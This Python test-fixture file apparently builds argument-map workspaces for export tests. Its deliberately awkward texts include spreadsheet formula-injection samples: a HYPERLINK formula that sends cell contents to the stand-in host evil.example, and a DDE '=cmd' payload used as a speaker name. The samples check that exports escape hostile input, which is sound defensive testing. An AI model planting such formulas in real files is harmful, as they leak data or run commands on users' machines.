"""Fixtures of the export tests: a map on the seed, a map of awkward texts, an empty map, and
the real readers of the formats (installed on first use, see readers.py)."""

import os
from pathlib import Path

import pytest

from argmap.codebook import load_codebook
from argmap.models import Document
from argmap.store import Workspace
from tests.export.pages import hostile_map
from tests.export.readers import (
    ReaderUnavailable,
    argdown_command,
    arguebuf_python,
    dot_command,
)
from tests.helpers import SEED_CODEBOOK, by_speaker


@pytest.fixture
def mapped(ws):
    """The seed workspace with labels, a dispute, an adjudication, positions, claims and
    relations."""
    kishida = by_speaker(ws, "Kishida Fumio")[0]
    tanaka = by_speaker(ws, "Tanaka Hitoshi")
    austin = by_speaker(ws, "Lloyd Austin")
    ws.set_stance(kishida.id, "pro-integration", annotator="alice", note="with you")
    ws.set_stance(tanaka[0].id, "sovereignty-concern", annotator="alice")
    ws.set_stance(tanaka[0].id, "neutral", annotator="bob")
    ws.adjudicate(austin[0].id, "pro-integration", annotator="carol")
    position = ws.add_claim(
        "Japan should integrate its forces with the US", kind="position", label="pro-integration"
    )
    against = ws.add_claim(
        "Integration makes Japan the front line", kind="position", label="sovereignty-concern"
    )
    claim = ws.add_claim("Integration strengthens deterrence", parent_id=position.id)
    ws.link(kishida.id, position.id, "supports")
    ws.link(tanaka[0].id, claim.id, "attacks")
    ws.link(claim.id, position.id, "supports")
    ws.link(against.id, position.id, "rebuts")
    ws.promote_statement(austin[-1].id, parent_id=position.id)
    ws.link(austin[0].id, austin[-1].id, "restates")
    return ws


@pytest.fixture
def restated(mapped):
    """``mapped`` with two more restatements between statements linked to nothing else, so
    that the Argdown export's "Restatements" section defines several statements."""
    free = [s for s in mapped.statements(limit=-1) if not mapped.relations(node_id=s.id)]
    mapped.link(free[0].id, free[1].id, "restates")
    mapped.link(free[2].id, free[1].id, "restates")
    return mapped


#: A document of awkward text: a formula, quotation marks of several kinds, Argdown and
#: Markdown markup, DOT escapes, tabs, a CR LF, non-Latin scripts.
ODD_TEXT = (
    '=HYPERLINK("http://evil.example/?x="&A1, "click") opened the session.\n\n'
    "“We will not back down,” the minister said. [S5]: {speaker: x} #tag @[P1] <A>: "
    "*bold* _it_ // comment /* c */ === front\n"
    "-2+3 is what @alice wrote\tafter a tab.\n"
    "東京で「統合は抑止力を高める」と述べた。 Ελληνικά: «όχι». U.S. officials met A.P. "
    "reporters at 10:30:00 :smile: .E. \\N\\G back\\slash\n"
    "'Quoted' and \"double\" and the line\r\nwith CR LF and a formula +SUM(A1:A3) and -1.\n"
)
#: The issue of the map of awkward texts: front matter, heading and label markup.
ODD_ISSUE = 'Should "Japan" [integrate]? {a: b} #tag === @x // y /* z */ A.P. 10:30:00 \\'
#: Spans of ODD_TEXT marked as statements by hand, by the speaker of the same index.
ODD_SPANS = [
    ODD_TEXT.index("=HYPERLINK"),
    ODD_TEXT.index("“We will"),
    ODD_TEXT.index("-2+3"),
    ODD_TEXT.index("東京"),
    ODD_TEXT.index("'Quoted'"),
]
ODD_SPEAKERS = [
    '=cmd|" /C calc"!A0',
    "@alice: the [analyst]; {x}",
    '-Dr. O\'Brien; "Doc"',
    "岸田 文雄",
    "\tTabbed\rName",
]


@pytest.fixture
def odd_map(tmp_path) -> Workspace:
    """A map whose texts are awkward for every format: formulas, quotation marks, brackets,
    braces, markup characters, newlines, tabs, non-Latin scripts, in statements, speakers,
    annotators, notes, claims and the document's name."""
    codebook = load_codebook(SEED_CODEBOOK).model_copy(update={"issue": ODD_ISSUE})
    workspace = Workspace.init(tmp_path / "odd", codebook=codebook)
    document = Document.from_text('=odd "name" [1] {x}.txt', ODD_TEXT)
    workspace.add_documents([document])
    starts = [*ODD_SPANS[1:], len(ODD_TEXT)]
    statements = []
    for start, name, following in zip(ODD_SPANS, ODD_SPEAKERS, starts, strict=True):
        end = len(ODD_TEXT[:following].rstrip())
        speaker = workspace.add_speaker(name)
        existing = [s for s in workspace.statements(limit=-1) if (s.start, s.end) == (start, end)]
        statements.append(
            existing[0]
            if existing
            else workspace.add_statement(document.id, start, end, speaker_id=speaker.id)
        )
    first, quoted, dashed, japanese, apostrophe = statements
    workspace.set_stance(
        first.id, "neutral", annotator="=o'brien:x;y", note='a; b: c\n=1+1, "quoted"'
    )
    workspace.set_stance(first.id, "pro-integration", annotator="@bob")
    workspace.set_stance(japanese.id, "pro-integration", annotator="佐藤", note="統合に賛成")
    position = workspace.add_claim(
        '=1+1 "Integration" [now]: {a: b} #tag @x *y* _z_ // w', kind="position"
    )
    claim = workspace.add_claim("-統合は抑止力を高める «όχι»", parent_id=position.id)
    against = workspace.add_claim("“Never,” they said \\ back\\slash (=== end)", kind="position")
    workspace.link(quoted.id, position.id, "supports")
    workspace.link(first.id, claim.id, "attacks")
    workspace.link(japanese.id, claim.id, "supports")
    workspace.link(claim.id, position.id, "supports")
    workspace.link(against.id, position.id, "rebuts")
    workspace.link(dashed.id, apostrophe.id, "restates")
    workspace.link(apostrophe.id, japanese.id, "restates")
    yield workspace
    workspace.close()


@pytest.fixture
def empty_map(tmp_path) -> Workspace:
    """A workspace with nothing in it, not even a codebook."""
    workspace = Workspace.init(tmp_path / "empty")
    yield workspace
    workspace.close()


def _reader(find) -> Path:
    """The reader ``find`` gives; the test skips where it cannot be had, or fails under
    ``$ARGMAP_REQUIRE_READERS=1`` (CI: a format is tested with its real reader)."""
    try:
        return find()
    except ReaderUnavailable as problem:
        if os.environ.get("ARGMAP_REQUIRE_READERS") == "1":
            pytest.fail(f"{problem} (ARGMAP_REQUIRE_READERS=1)")
        pytest.skip(str(problem))


@pytest.fixture(scope="session")
def arguebuf() -> Path:
    """The Python interpreter of the environment holding arguebuf (the AIF reader)."""
    return _reader(arguebuf_python)


@pytest.fixture(scope="session")
def argdown() -> Path:
    """The ``argdown`` command of ``@argdown/cli`` (the Argdown parser)."""
    return _reader(argdown_command)


@pytest.fixture(scope="session")
def graphviz_dot() -> Path:
    """GraphViz's ``dot``."""
    return _reader(dot_command)


@pytest.fixture
def script_map(tmp_path) -> Workspace:
    """A map whose issue, claims, speakers and statements hold ``</script>``, ``<!--``,
    markup and character references (the HTML page must show them as text)."""
    workspace = hostile_map(tmp_path / "script")
    yield workspace
    workspace.close()
